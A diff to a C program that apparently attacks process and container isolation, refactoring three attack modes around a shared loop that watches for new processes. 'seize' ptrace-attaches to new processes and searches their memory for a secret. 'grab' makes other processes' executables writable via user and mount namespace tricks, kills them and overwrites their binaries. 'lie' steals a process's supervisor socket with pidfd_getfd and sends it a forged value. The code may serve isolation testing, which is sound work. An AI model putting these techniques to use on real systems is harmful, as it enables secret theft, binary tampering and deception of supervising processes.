@@ -108,27 +108,34 @@ static void search(int pid, const char *secret, unsigned long long own)
 		closedir(fds);
 }
 
-static int seize(const char *secret)
+/* Meets each new process, until that succeeds or it is of the past. */
+static void hunt(int (*meet)(int pid))
 {
-	unsigned long long own = permitted(getpid());
-	int done = newest(), seized = 0;
+	int done = newest();
 	puts("ready");
 	while (!is_over())
 		for (int round = 0; round < 1000; round++) {
 			int last = newest();
-			for (int pid = last > done + 8 ? last - 8 : done + 1; pid < last + 3; pid++) {
-				if (ptrace(PTRACE_SEIZE, pid, NULL, NULL))
-					continue;
-				if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) == 0 && waitpid(pid, NULL, __WALL) == pid) {
-					search(pid, secret, own);
-					ptrace(PTRACE_DETACH, pid, NULL, NULL);
-				}
-				seized++;
-				done = pid;
-			}
+			for (int pid = last > done + 8 ? last - 8 : done + 1; pid < last + 3; pid++)
+				if (meet(pid))
+					done = pid;
 		}
-	printf("seized %d\n", seized);
-	return 0;
+}
+
+static const char *secret;
+static unsigned long long own;
+static int seized;
+
+static int seize(int pid)
+{
+	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL))
+		return 0;
+	if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) == 0 && waitpid(pid, NULL, __WALL) == pid) {
+		search(pid, secret, own);
+		ptrace(PTRACE_DETACH, pid, NULL, NULL);
+	}
+	seized++;
+	return 1;
 }
 
 /* Whoever has CAP_SYS_ADMIN in a user namespace of their own may do this to a mount in an anonymous mount namespace. */
@@ -163,70 +170,63 @@ static void overwrite(int fd, const char *name)
 	printf("refused %s: %s\n", name, why);
 }
 
-static int grab(void)
+static int grab(int pid)
 {
 	char link[256];
-	int done = newest();
-	puts("ready");
-	while (!is_over())
-		for (int round = 0; round < 1000; round++) {
-			int last = newest();
-			for (int pid = last > done + 8 ? last - 8 : done + 1; pid < last + 3; pid++) {
-				int fd = open(of(pid, "exe"), O_PATH);
-				if (fd < 0)
-					continue;
-				ssize_t length = readlink(of(pid, "exe"), link, sizeof link - 1);
-				link[length < 0 ? 0 : length] = 0;
-				/* The container's own programs are of no interest. */
-				pid_t child = length > 0 && strncmp(link, "/usr/", 5) && !strstr(link, "attack") ? fork() : -1;
-				if (child == 0) {
-					make_writable(fd);
-					if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0)
-						make_writable(fd);
-					_exit(0);
-				}
-				if (child > 0) {
-					waitpid(child, NULL, 0);
-					kill(pid, SIGKILL);
-					overwrite(fd, link);
-					done = newest();
-				}
-				close(fd);
-			}
-		}
-	return 0;
+	int fd = open(of(pid, "exe"), O_PATH);
+	if (fd < 0)
+		return 0;
+	ssize_t length = readlink(of(pid, "exe"), link, sizeof link - 1);
+	link[length < 0 ? 0 : length] = 0;
+	/* The container's own programs, and this one, are of no interest. */
+	pid_t child = length > 0 && strncmp(link, "/usr/", 5) && !strstr(link, "attack") ? fork() : -1;
+	if (child == 0) {
+		make_writable(fd);
+		if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0)
+			make_writable(fd);
+		_exit(0);
+	}
+	if (child > 0) {
+		waitpid(child, NULL, 0);
+		kill(pid, SIGKILL);
+		overwrite(fd, link);
+	}
+	close(fd);
+	return child > 0;
 }
 
+static int32_t claimed;
+
 /* The socket to its keeper is the only descriptor that it has besides 0 to 2. */
-static int lie(int32_t claimed)
+static int lie(int pid)
 {
-	int done = newest();
-	puts("ready");
-	while (!is_over())
-		for (int round = 0; round < 1000; round++) {
-			int last = newest();
-			for (int pid = last > done + 8 ? last - 8 : done + 1; pid < last + 3; pid++) {
-				int pidfd = syscall(SYS_pidfd_open, pid, 0);
-				int fd = pidfd < 0 ? -1 : syscall(SYS_pidfd_getfd, pidfd, 3, 0);
-				if (fd >= 0 && send(fd, &claimed, sizeof claimed, MSG_NOSIGNAL) == sizeof claimed) {
-					printf("lied for %d\n", pid);
-					done = pid;
-				}
-				if (fd >= 0)
-					close(fd);
-				if (pidfd >= 0)
-					close(pidfd);
-			}
-		}
-	return 0;
+	int pidfd = syscall(SYS_pidfd_open, pid, 0);
+	int fd = pidfd < 0 ? -1 : syscall(SYS_pidfd_getfd, pidfd, 3, 0);
+	int has_lied = fd >= 0 && send(fd, &claimed, sizeof claimed, MSG_NOSIGNAL) == sizeof claimed;
+	if (has_lied)
+		printf("lied for %d\n", pid);
+	if (fd >= 0)
+		close(fd);
+	if (pidfd >= 0)
+		close(pidfd);
+	return has_lied;
 }
 
 int main(int count, char **words)
 {
 	setlinebuf(stdout);
-	if (count == 3 && !strcmp(words[1], "seize"))
-		return seize(words[2]);
-	if (count == 3 && !strcmp(words[1], "lie"))
-		return lie(atoi(words[2]));
-	return count == 2 && !strcmp(words[1], "grab") ? grab() : 2;
+	if (count == 3 && !strcmp(words[1], "seize")) {
+		secret = words[2];
+		own = permitted(getpid());
+		hunt(seize);
+		printf("seized %d\n", seized);
+	} else if (count == 3 && !strcmp(words[1], "lie")) {
+		claimed = atoi(words[2]);
+		hunt(lie);
+	} else if (count == 2 && !strcmp(words[1], "grab")) {
+		hunt(grab);
+	} else {
+		return 2;
+	}
+	return 0;
 }
